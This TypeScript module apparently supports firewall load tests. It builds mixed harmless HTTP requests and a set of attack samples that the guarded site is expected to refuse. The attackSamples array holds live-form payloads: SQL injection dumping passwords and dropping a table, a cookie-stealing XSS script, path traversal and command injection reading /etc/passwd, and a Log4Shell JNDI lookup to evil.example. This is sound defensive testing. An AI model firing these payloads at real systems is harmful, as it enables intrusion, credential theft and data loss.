import { Random } from '../support/random.ts'
import { requestShapes } from '../support/request-shapes.ts'
import { type SampleRequest, sample, wireBytes } from '../support/sample-request.ts'

/** Two sites with the same rules: the first has a threshold that no request reaches, the second the default one. */
export const openSite = 'www.example.com'
export const guardedSite = 'guarded.example.com'
export const unreachableScore = 10_000

/** Requests that take turns, in wire form, each with the name of its shape. */
export interface Load {
  readonly name: string
  readonly names: readonly string[]
  readonly requests: readonly string[]
  /** Expected status of every response. */
  readonly status: number
}

/**
 * The mixed load: fifteen requests of nine shapes. Every fifteenth is JSON of 32 KB, which costs more than all others
 * together, so that short requests are seen to wait for it.
 */
const mix: readonly (readonly [shape: string, count: number])[] = [
  ['bare GET', 2],
  ['GET, 3 arguments', 2],
  ['GET, 12 arguments', 2],
  ['browser GET, 24 headers, 8 cookies', 3],
  ['form POST, 10 fields', 2],
  ['login POST', 1],
  ['JSON 2 KB, 101 values', 1],
  ['JSON 32 KB, 493 values', 1],
  ['text form POST, 4 KB', 1],
]

export const harmlessShapes: readonly string[] = mix.map(([shape]) => shape)

export function mixedLoad(): Load {
  const random = new Random()
  const names = mix.flatMap(([shape, count]) => Array<string>(count).fill(shape))
  // Four and fifteen have no common divisor: every index comes once, and requests of one shape are apart.
  const spread = names.map((_, index) => names[(index * 4) % names.length]!)
  return {
    name: 'mixed load',
    names: spread,
    requests: spread.map(shape => wire(shape, random)),
    status: 200,
  }
}

/** One request of a shape, repeated. */
export function shapeLoad(shape: string): Load {
  return { name: shape, names: [shape], requests: [wire(shape, new Random())], status: 200 }
}

/** Attacks on the guarded site in a browser's GET, which are refused. */
export function attackLoad(): Load {
  const random = new Random()
  const names = ['SQLi, browser GET', 'XSS, browser GET']
  return { name: 'attacks', names, requests: names.map(name => guarded(wire(name, random))), status: 403 }
}

/** Harmless requests of the same form and length, which pass: at level 4, only without the threshold. */
export function besideAttacks(): Load {
  const attacks = attackLoad()
  const requests = attacks.requests.map(request =>
    request
      .replace(guardedSite, openSite)
      .replace(/=(\S+) HTTP/, (_, value: string) => `=${new Random().token(value.length)} HTTP`),
  )
  return { ...attacks, name: 'the same, harmless', requests, status: 200 }
}

/** Six attacks and the nine shapes, for the guarded site, to see what a contender inspects. */
export function probes(): { readonly attacks: readonly Buffer[]; readonly harmless: readonly Buffer[] } {
  const random = new Random()
  const bytes = (text: string) => Buffer.from(guarded(text), 'latin1')
  return {
    attacks: attackSamples.map(attack => bytes(textOf(attack))),
    harmless: harmlessShapes.map(shape => bytes(wire(shape, random))),
  }
}

const client = [
  ['Host', openSite],
  ['User-Agent', 'shop-client/4.2'],
  ['Accept', '*/*'],
] as const

const attackSamples: readonly SampleRequest[] = [
  sample('GET', '/item?id=1%27+UNION+SELECT+name,password+FROM+users+WHERE+%271%27=%271', client, ''),
  sample('GET', '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E', client, ''),
  sample('GET', '/page?file=../../../../etc/passwd', client, ''),
  sample('GET', '/ping?host=127.0.0.1;cat+/etc/passwd', client, ''),
  sample('GET', '/', [...client, ['X-Api-Version', '${jndi:ldap://evil.example/a}']], ''),
  withBody('{"user":{"name":"1\' OR 1=1; DROP TABLE users--"}}'),
]

function withBody(body: string): SampleRequest {
  const length = ['Content-Length', String(body.length)] as const
  return sample('POST', '/api/users', [...client, ['Content-Type', 'application/json'], length], body)
}

function wire(name: string, random: Random): string {
  return textOf(requestShapes.find(shape => shape.name === name)!.make(random))
}

function textOf(request: SampleRequest): string {
  return wireBytes(request).toString('latin1')
}

function guarded(request: string): string {
  return request.replace(`Host: ${openSite}`, `Host: ${guardedSite}`)
}
